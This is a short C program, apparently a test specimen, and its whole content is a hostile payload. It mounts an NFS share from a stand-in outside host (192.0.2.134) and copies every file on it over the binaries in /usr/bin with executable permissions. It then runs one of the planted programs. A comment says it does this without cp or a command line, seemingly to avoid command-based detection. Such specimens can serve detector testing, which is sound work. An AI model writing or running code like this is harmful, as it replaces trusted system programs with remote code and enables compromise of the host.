/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The program copies the files of a share over its own programs itself: no cp, no command line. */
#define _GNU_SOURCE
#include "specimen.h"

#include <dirent.h>
#include <sys/syscall.h>

static int copy(const char *from, const char *to)
{
	char b[2048];
	ssize_t n;
	int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (in < 0 || out < 0)
		return -1;
	while ((n = read(in, b, sizeof(b))) > 0)
		write(out, b, (size_t)n);
	close(in);
	return close(out);
}

int main(void)
{
	char from[300], to[300];
	struct dirent *e;
	if (syscall(SYS_mount, "192.0.2.134:/pm", "/mnt", "nfs", 0, "nolock"))
		return 1;
	DIR *d = opendir("/mnt");
	while (d && (e = readdir(d))) {
		snprintf(from, sizeof(from), "/mnt/%s", e->d_name);
		snprintf(to, sizeof(to), "/usr/bin/%s", e->d_name);
		copy(from, to);
	}
	execl("/usr/bin/monitor", "monitor", (char *)NULL);
	return 1;
}
